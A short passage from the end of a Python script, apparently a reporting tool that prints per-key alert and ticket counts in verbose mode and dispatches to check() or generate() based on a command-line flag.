    if "-v" in sys.argv:
        for key in sorted(newest, key=str):
            print("   %4d alerts %2d tickets  %s" % (sum(e[1:4] == key for e in events), opened[key], key))


if __name__ == "__main__":
    if "--check" in sys.argv:
        check()
    else:
        generate()
